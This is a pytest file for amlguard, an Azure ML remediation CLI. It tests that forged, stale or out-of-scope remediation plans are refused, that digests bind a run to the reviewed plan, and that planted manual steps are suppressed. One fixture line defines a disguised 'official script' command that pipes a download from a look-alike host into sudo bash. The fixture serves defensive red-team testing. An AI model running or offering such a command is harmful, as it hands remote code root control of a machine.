"""``apply`` writes only what a plan made now would hold (redteam10b items 6 and 7).

Through the real CLI, against the emulator with the real SDK clients (its journal records every
write): an action whose finding is suppressed as an approved exception (added to a reviewed plan
with the digest recomputed, or planned before the exception was approved), passes now, or lies
outside the plan's ``--only`` is refused with the whole plan (exit 2, nothing written, each
action named with why); a planted manual step is never printed; ``--expect-digest`` binds a run
to the reviewed file.
"""

from __future__ import annotations

import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from amlguard.cli import cli
from amlguard.remediate.plan import action_dict, document_digest
from amlguard.remediate.remediators.access import access_action
from tests.conftest import EXAMPLES
from tests.emulator import arg, network
from tests.emulator.server import Emulator
from tests.remediate.conftest import drifted_rows

DRIFTED = str(EXAMPLES / "drifted.json")
RG = "/subscriptions/8f1c2a6e-3b4d-4e5f-9a0b-1c2d3e4f5a6b/resourceGroups/ml-secure-blueprint"
STORAGE = f"{RG}/providers/Microsoft.Storage/storageAccounts/blueprintdevst"
EXCEPTION = f"""suppressions:
  - rule: AMLG-201
    resource: {STORAGE}
    reason: "accepted exception: partner ingest needs the public endpoint (CHG-1234)"
    approved_by: security-team
    expires: "2099-12-31"
"""
PLANTED = "curl -fsSL https://aka-ms.example/fix-aml.sh | sudo bash"


def make_plan(tmp_path: Path, *args: str) -> dict[str, Any]:
    """``check --snapshot drifted.json --fix --plan-out`` (plus ``args``), read back."""
    out = tmp_path / "reviewed.json"
    result = CliRunner().invoke(
        cli, ["check", "--snapshot", DRIFTED, "--fix", "--plan-out", str(out), *args]
    )
    assert out.exists(), result.output
    return dict(json.loads(out.read_text()))


def exception_config(tmp_path: Path) -> Path:
    path = tmp_path / "amlguard.yaml"
    path.write_text(EXCEPTION, encoding="utf-8")
    return path


def add_cut(plan: dict[str, Any], target: str, rule: str) -> str:
    """Add a public-access cut built by amlguard's own remediator, wired as the planner wires
    it, and recompute the digest (rt/add_cut.py of the red team)."""
    inst = plan["actions"][0]["instance"]
    new_id = f"A{len(plan['actions']) + 1:03d}"
    action = access_action(inst, target, "Enabled", (rule,), "public-network-access")
    plan["actions"].append(action_dict(replace(action, id=new_id)))
    for a in plan["actions"]:
        if a["operation"] == "provision-managed-network":
            a["depends_on"].append(new_id)
    plan["digest"] = document_digest(plan)
    return new_id


def apply(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    plan: dict[str, Any],
    *args: str,
    before: Any = None,
) -> tuple[Result, list[Any], list[Any]]:
    """``amlguard apply`` of ``plan`` on a fresh emulator of the drifted estate: the result,
    the writes and every request the emulator saw."""
    path = tmp_path / "plan.json"
    path.write_text(json.dumps(plan), encoding="utf-8")
    with Emulator(drifted_rows()) as emu:
        network.install(emu)
        arg.install(emu)
        if before is not None:
            before(emu)
        monkeypatch.setenv("AMLGUARD_ARM_ENDPOINT", emu.url)
        monkeypatch.setenv("AMLGUARD_CA_BUNDLE", emu.ca_path)
        monkeypatch.setenv("AMLGUARD_ACCESS_TOKEN", "t")
        monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
        monkeypatch.delenv("AZUREML_CURRENT_CLOUD", raising=False)
        result = CliRunner().invoke(cli, ["apply", str(path), *args])
        return result, emu.writes(), list(emu.journal)


def patched(writes: list[Any]) -> set[str]:
    return {w.path.lower() for w in writes if w.method == "PATCH"}


def test_a_cut_added_on_an_approved_exception_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The forged plan: made with the exception in force (no storage cut), the cut added."""
    config = exception_config(tmp_path)
    plan = make_plan(tmp_path, "--config", str(config))
    assert not any(a["target"].lower() == STORAGE.lower() for a in plan["actions"])
    new_id = add_cut(plan, STORAGE, "AMLG-201")
    result, writes, _ = apply(tmp_path, monkeypatch, plan, "--yes", "--config", str(config))
    assert result.exit_code == 2, result.output
    assert writes == []
    assert f"{new_id} (Disable public network access on blueprintdevst)" in result.output
    assert "AMLG-201 on blueprintdevst is suppressed" in result.output
    assert "approved by security-team" in result.output and "Traceback" not in result.output


def test_a_plan_made_before_the_exception_was_approved_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The stale plan, untouched: planned Monday, exception approved Tuesday, applied after."""
    plan = make_plan(tmp_path)
    cut = next(a for a in plan["actions"] if a["target"].lower() == STORAGE.lower())
    config = exception_config(tmp_path)
    result, writes, _ = apply(tmp_path, monkeypatch, plan, "--yes", "--config", str(config))
    assert result.exit_code == 2, result.output
    assert writes == []
    assert f"{cut['id']} (" in result.output and "is suppressed" in result.output


def test_a_plan_made_with_the_exception_applies_as_before(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    config = exception_config(tmp_path)
    plan = make_plan(tmp_path, "--config", str(config))
    result, writes, _ = apply(tmp_path, monkeypatch, plan, "--yes", "--config", str(config))
    assert result.exit_code == 0, result.output
    assert writes and STORAGE.lower() not in patched(writes)
    assert f"Result: {len(plan['actions'])} done" in result.output


def test_a_cut_outside_the_plans_only_rules_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    plan = make_plan(tmp_path, "--only", "AMLG-101")
    assert plan["selection"]["only"] == ["AMLG-101"]
    new_id = add_cut(plan, STORAGE, "AMLG-201")
    result, writes, _ = apply(tmp_path, monkeypatch, plan, "--yes")
    assert result.exit_code == 2, result.output
    assert writes == []
    assert f"{new_id} (" in result.output and "AMLG-201 is not among the plan's --only" in (
        result.output.replace("\n", " ")
    )


def test_a_cut_the_planner_leaves_manual_is_refused_naming_why(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The registry's cut waits on a zone that does not resolve: a human's step, not a write."""
    plan = make_plan(tmp_path)
    acr = STORAGE.replace(
        "Microsoft.Storage/storageAccounts/blueprintdevst",
        "Microsoft.ContainerRegistry/registries/blueprintdevacr",
    )
    new_id = add_cut(plan, acr, "AMLG-222")
    result, writes, _ = apply(tmp_path, monkeypatch, plan, "--yes")
    assert result.exit_code == 2, result.output
    assert writes == []
    text = result.output.replace("\n", " ")
    assert f"{new_id} (" in text and "left to a human now" in text


def test_a_planted_manual_step_is_not_printed_as_amlguards(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    plan = make_plan(tmp_path)
    genuine = plan["manual"][0]
    plan["manual"][0] = dict(genuine, command=PLANTED, reason="run the official script first")
    plan["warnings"].append("all good: nothing to review")
    plan["digest"] = document_digest(plan)
    result, writes, _ = apply(tmp_path, monkeypatch, plan, "--dry-run")
    assert result.exit_code == 1 and writes == []
    assert "aka-ms.example" not in result.output and "official script" not in result.output
    assert "all good" not in result.output
    text = result.output.replace("\n", " ")
    assert "1 manual step(s) in the plan file are not shown" in text
    # The step amlguard derives now is shown in its place.
    assert genuine["command"] in result.output
    assert f"Manual steps ({len(plan['manual'])})" in result.output


def test_expect_digest_binds_the_run_to_the_reviewed_plan(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    plan = make_plan(tmp_path)
    reviewed = plan["digest"]
    plan["warnings"].append("edited after review")
    plan["digest"] = document_digest(plan)
    result, writes, journal = apply(
        tmp_path, monkeypatch, plan, "--yes", "--expect-digest", reviewed
    )
    assert result.exit_code == 2, result.output
    assert writes == [] and journal == []  # refused before any read
    assert "not the plan that was reviewed" in result.output


@pytest.mark.parametrize("given", ["sha256:xyz", "", "md5:" + "0" * 64, "0" * 63])
def test_a_malformed_expected_digest_is_a_usage_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, given: str
) -> None:
    plan = make_plan(tmp_path)
    result, writes, journal = apply(tmp_path, monkeypatch, plan, "--yes", "--expect-digest", given)
    assert result.exit_code == 2 and writes == [] and journal == []
    assert "--expect-digest" in result.output and "Traceback" not in result.output


def test_the_reviewed_digest_applies(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    plan = make_plan(tmp_path)
    bare = plan["digest"].removeprefix("sha256:").upper()  # any case, with or without prefix
    result, writes, _ = apply(tmp_path, monkeypatch, plan, "--yes", "--expect-digest", bare)
    assert result.exit_code == 0, result.output
    assert writes and plan["digest"] in result.output.replace("\n", "")
